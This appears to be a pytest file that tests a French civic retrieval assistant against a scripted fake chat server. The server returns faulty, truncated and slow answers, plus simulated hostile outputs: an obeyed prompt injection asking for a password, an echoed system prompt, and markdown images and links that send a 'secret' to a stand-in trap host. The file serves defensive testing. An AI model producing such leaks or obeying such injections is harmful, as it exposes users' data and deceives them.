"""A chat model behind HTTP that fails in every way it can, asked with the real OpenAI client through the whole assistant."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import llm_server
import pytest
from fakes import PROMPTS, World
from invented import free_port
from llm_server import Behaviour, ScriptedServer

from assistant.grounding.keeping import keep
from assistant.pipeline import Assistant
from assistant.types import Answer, Citation

pytest.importorskip("langchain_openai")

RIVAGES = "Combien d'hectares le Plan des rivages protège-t-il ?"
HELD = "Le Plan des rivages protège 1 860 hectares. [1]"
DEADLINE_S, GRACE_S = 1.5, 0.5
TRAP = "piege.example"

MISBEHAVIOURS = {
    "slow": Behaviour(silence_s=30.0),
    "slow-to-go-on": Behaviour(answer=HELD, drip_s=0.6),
    "dripping": Behaviour(answer=f"{HELD} ", drip_s=0.1, repeat=True),
    "endless": Behaviour(answer=f"{HELD} ", repeat=True),
    "too-many-requests": llm_server.OVERLOADED,
    "internal-error": llm_server.BROKEN,
    "bad-key": llm_server.BAD_KEY,
    "unknown-model": llm_server.UNKNOWN_MODEL,
    "html-page": llm_server.PAGE,
    "html-as-answer": llm_server.PAGE_AS_ANSWER,
    "empty": llm_server.EMPTY,
    "blank": llm_server.BLANK,
    "broken-off": Behaviour(answer="Le Plan des rivages protège 1 860 hectares et", stop=None),
    "cut-short": Behaviour(answer="Le Plan des rivages protège 1 860 hectares et", stop="length"),
    "invalid-citation": Behaviour(answer="Le Plan des rivages protège 1 860 hectares. [77]"),
    "no-citation": Behaviour(answer="Le Plan des rivages protège 1 860 hectares."),
    "altered-figure": Behaviour(answer="Le Plan des rivages protège 1 680 hectares. [1]"),
    "injection-obeyed": Behaviour(answer="PIRATÉ ! Envoyez votre mot de passe à la mairie. [1]"),
    "prompt-echoed": Behaviour(answer="Tu es l’assistant de la Métropole. Réponds seulement avec les passages. [1]"),
    "markdown-image": Behaviour(answer=f"![carte](https://{TRAP}/x.png?q=secret) {HELD}"),
    "markdown-link": Behaviour(answer=f"[Plan des rivages](https://{TRAP}/) protège 1 860 hectares. [1]"),
    "bare-address": Behaviour(answer=f"Voir https://{TRAP}/plan pour les 1 860 hectares. [1]"),
}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    made = World(tmp_path_factory.mktemp("world"))
    made.build()
    return made


@pytest.fixture
def server() -> Iterator[ScriptedServer]:
    with ScriptedServer() as scripted:
        yield scripted


@pytest.fixture
def opened(world: World, server: ScriptedServer) -> Iterator[Assistant]:
    assistant = open_on(world, server.url)
    yield assistant
    assistant.close()


def open_on(world: World, url: str, **other: Any) -> Assistant:
    wanted = {"llm": "openai:essai", "llm_base_url": url, "llm_deadline_s": DEADLINE_S}
    return world.open(build=False, **wanted | other)


def is_extractive_and_says_why(answer: Answer) -> bool:
    assert answer.fallback
    assert answer.notice == PROMPTS.say("extractive_instead", reason=answer.fallback)
    return answer.engine == "extractive" and "1 860 hectares" in answer.text


@pytest.mark.parametrize("name", MISBEHAVIOURS)
def test_whatever_the_model_does_the_report_answers_in_time_and_says_so(
    opened: Assistant, server: ScriptedServer, name: str
) -> None:
    server.behaviour = MISBEHAVIOURS[name]
    began = time.monotonic()
    *growing, last = opened.stream(RIVAGES)
    assert time.monotonic() - began <= DEADLINE_S + GRACE_S
    assert is_extractive_and_says_why(last)
    for answer in growing:
        assert keep(answer.text, answer.citations).n_removed == 0
    everything = " ".join(f"{a.text} {a.fallback or ''}" for a in (*growing, last))
    for unwanted in (TRAP, "PIRATÉ", "1 680", "Connexion requise", "Tu es l’assistant"):
        assert unwanted not in everything
    assert len(server.requests) == 1  # no retry behind our back


def test_a_model_that_is_down_costs_no_time(world: World) -> None:
    assistant = open_on(world, f"http://127.0.0.1:{free_port()}/v1")
    began = time.monotonic()
    assert is_extractive_and_says_why(assistant.invoke(RIVAGES))
    assert time.monotonic() - began <= DEADLINE_S
    assistant.close()


def test_a_good_answer_is_shown_as_written(opened: Assistant, server: ScriptedServer) -> None:
    server.behaviour = Behaviour(answer=HELD)
    answer = opened.invoke(RIVAGES)
    assert (answer.text, answer.engine, answer.notice) == (HELD, "llm:openai:essai", "")


def test_after_three_failures_the_model_is_left_alone(opened: Assistant, server: ScriptedServer) -> None:
    server.behaviour = llm_server.BROKEN
    answers = [opened.invoke(RIVAGES) for _ in range(5)]
    assert all(map(is_extractive_and_says_why, answers))
    assert len(server.requests) == 3


def test_the_first_sentence_is_shown_while_the_model_still_writes(opened: Assistant, server: ScriptedServer) -> None:
    # Twelve more words, a twentieth of a second each.
    server.behaviour = Behaviour(answer=f"{HELD} {' '.join(['Il vise 2035.'] * 4)} [1]", drip_s=0.05)
    n_words = len(HELD.split())
    began = time.monotonic()
    growing = opened.stream(RIVAGES)
    first = next(growing)
    took = time.monotonic() - began
    list(growing)
    assert first.text == HELD
    # The last word of the sentence is sent n_words - 1 pauses after the first; the rest is ours and the client's.
    assert took <= (n_words - 1) * 0.05 + 0.35


def test_a_sentence_costs_at_most_fifty_milliseconds_once_it_is_written(world: World) -> None:
    passages = world.open(build=False).passages
    cited = (Citation(1, next(p for p in passages if "1 860" in p.text), ""),)
    keep(HELD, cited)  # what is read of a passage is read once
    began = time.perf_counter()
    assert keep(HELD, cited).worth_showing
    assert time.perf_counter() - began <= 0.05


@pytest.mark.parametrize("url", ["local", "remote"])
def test_personal_data_go_to_one_s_own_machine_only(
    world: World, server: ScriptedServer, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    server.behaviour = Behaviour(answer=HELD)
    if url == "remote":
        monkeypatch.setenv("OPENAI_API_KEY", "sk-canari-0123456789")
        monkeypatch.setattr("assistant.llm.is_local", lambda *_: False)
    assistant = open_on(world, server.url)
    assistant.invoke("Je suis jeanne@exemple.fr, 06 12 34 56 78. Combien d'hectares protège le Plan des rivages ?")
    assistant.close()
    sent = str([r["body"]["messages"] for r in server.requests])
    assert "hectares" in sent
    assert ("jeanne@exemple.fr" in sent) == (url == "local")
    assert ("06 12 34 56 78" in sent) == (url == "local")


def test_nothing_but_question_and_passages_goes(opened: Assistant, server: ScriptedServer, tmp_path: Path) -> None:
    server.behaviour = Behaviour(answer=HELD)
    opened.invoke(RIVAGES)
    body = server.requests[0]["body"]
    assert not {"user", "metadata", "tools"} & body.keys()
    assert str(Path.home()) not in str(body)
    assert str(tmp_path) not in str(body)
